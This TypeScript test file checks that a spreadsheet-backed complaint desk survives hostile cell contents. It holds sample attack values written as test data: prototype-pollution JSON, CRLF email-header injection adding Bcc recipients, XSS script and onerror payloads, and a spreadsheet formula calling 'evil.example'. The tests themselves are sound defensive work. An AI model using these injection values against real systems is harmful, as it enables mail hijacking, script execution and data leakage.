// Whoever edits the sheet edits our memory, too: the desk reads it as untrusted text, says what it cannot read, and goes on.
import type { FormLink } from '../../src/desk/state.ts';
import { tabs } from '../../src/desk/tabs.ts';
import { openShop, people, type Shop } from '../stories/shop.ts';

let fresh: () => Shop;
beforeAll(async () => {
  const shop = (await openShop())();
  shop.customerWrites({ what: 'The cup arrived broken', email: 'wang@example.com' });
  shop.oneClockRunAfter(10);
  form = shop.state().forms.find(({ purpose }) => purpose === 'complaint');
  fresh = shop.remembered();
}, 60_000);

/** As a person types it into a cell of the row with this key. */
function types(shop: Shop, tab: 'state' | 'settings', key: string, text: string): void {
  const { sheetId, columns } = tabs[tab];
  const at = (field: string) => columns.findIndex((column) => column.field === field);
  const row = shop.grid(sheetId).findIndex((cells) => cells[at('key')] === key);
  expect([key, row]).not.toEqual([key, -1]);
  shop.google.typeCell(people.Anna, sheetId, row + 1, at('value') + 1, text);
}

function typesInto(shop: Shop, tab: 'team' | 'touchpoints' | 'rules', texts: readonly string[]) {
  const { sheetId } = tabs[tab];
  const row = shop.grid(sheetId).filter((cells) => cells[0] !== '').length + 1;
  texts.forEach((text, at) => {
    if (text !== '') shop.google.typeCell(people.Anna, sheetId, row, at + 1, text);
  });
}

/** Known from before: what is typed below may be unreadable. */
let form: FormLink | undefined;

function goesOn(shop: Shop): void {
  const { what = '', email = '' } = form?.questions ?? {};
  const answers = { [what]: 'A second one', [email]: 'chen@example.com' };
  shop.google.submitForm(form?.formId ?? '', answers, {});
  shop.oneClockRunAfter(20);
  expect(shop.rows()).toHaveLength(2);
  expect(shop.mailsTo('chen@example.com')).toHaveLength(1);
  expect(shop.google.executions.filter(({ status }) => status !== 'completed')).toEqual([]);
  const { brokenChains, differences } = shop.verify();
  expect({ brokenChains, differences }).toEqual({ brokenChains: [], differences: [] });
}

const hostileJson = ['{"__proto__":{"polluted":true}}', '[]', 'null', '{', '"text"', '7'];
test.each([
  'numbers',
  'done',
  'tails',
  'problems',
  'setUp',
  'choices',
])('State, %s: whatever is typed there, the next complaint is taken in once', (key) => {
  for (const json of hostileJson) {
    const shop = fresh();
    types(shop, 'state', key, json);
    goesOn(shop);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  }
}, 60_000);

test.each([
  ['businessName', 'Linden\r\nBcc: everybody@example.com'],
  ['businessName', '<script>alert(1)</script>'],
  ['deskMail', 'desk@linden.example\nBcc: everybody@example.com'],
  ['deskMail', '=HYPERLINK("x")'],
  ['urgentPhone', '"><img src=x onerror=alert(1)>'],
  ['privacyText', '{{constructor}} <b>'],
  ['numberPrefix', '__proto__'],
  ['zone', 'Mars/Olympus'],
  ['language', 'constructor'],
])('Settings, %s = %j: no header, no markup, no stop', (key, text) => {
  const shop = fresh();
  types(shop, 'settings', key, text);
  shop.oneClockRunAfter(10);
  goesOn(shop);
  for (const mail of shop.google.mails) {
    expect([...mail.bcc, ...mail.cc]).toEqual([]);
    expect(`${mail.subject}${mail.fromName}${mail.replyTo}`).not.toMatch(/[\r\n]/);
    expect(mail.html).not.toMatch(/<script|<img(?! src="cid:)|onerror=(?!.*&gt;)/);
  }
});

test.each([
  ['team', ['constructor', 'evil@example.com\nBcc: x@example.com', 'principal']],
  ['team', ['__proto__', 'evil@example.com', 'owner of all']],
  ['team', ['=IMPORTXML("https://evil.example","//a")', '', 'staff']],
  ['touchpoints', ['__proto__']],
  ['touchpoints', ['constructor']],
  ['rules', ['constructor', 'constructor', 'constructor', 'constructor']],
  ['rules', ['__proto__', '__proto__', '__proto__', '__proto__']],
] as const)('%s, a row %j', (tab, texts) => {
  const shop = fresh();
  typesInto(shop, tab, texts);
  shop.oneClockRunAfter(10);
  goesOn(shop);
  shop.leap('2026-11-23T09:00:00Z');
  expect(shop.google.executions.filter(({ status }) => status !== 'completed')).toEqual([]);
  expect(shop.google.mails.flatMap((mail) => mail.bcc)).toEqual([]);
});

test.each(hostileJson)('as recorded = %s: that row is said, the others go on', (json) => {
  const shop = fresh();
  shop.types('Anna', 'R-2026-0001', 'recorded', json);
  shop.customerWrites({ what: 'A second one', email: 'chen@example.com' });
  shop.oneClockRunAfter(20);
  expect(shop.mailsTo('chen@example.com')).toHaveLength(1);
  expect(shop.health().problems.length).toBeGreaterThan(0);
  expect(shop.google.executions.filter(({ status }) => status !== 'completed')).toEqual([]);
});
